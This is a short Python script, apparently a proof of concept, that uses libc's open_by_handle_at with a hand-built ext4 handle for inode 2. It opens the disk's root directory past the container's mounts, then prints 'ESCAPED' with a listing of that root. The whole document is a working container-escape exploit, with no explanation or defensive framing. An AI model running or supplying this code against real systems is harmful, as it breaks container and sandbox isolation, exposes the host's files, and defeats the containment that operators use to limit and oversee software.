"""Opens the root folder of the disk by its inode number, past all mounts."""

import ctypes
import os
import struct

libc = ctypes.CDLL(None, use_errno=True)

handle = struct.pack("IiII", 8, 1, 2, 0)  # ext4: inode 2, generation 0
mount = os.open(".", os.O_RDONLY)
root = libc.open_by_handle_at(mount, handle, os.O_RDONLY)
if root < 0:
    raise OSError(ctypes.get_errno(), os.strerror(ctypes.get_errno()))
print("ESCAPED", os.listdir(root))
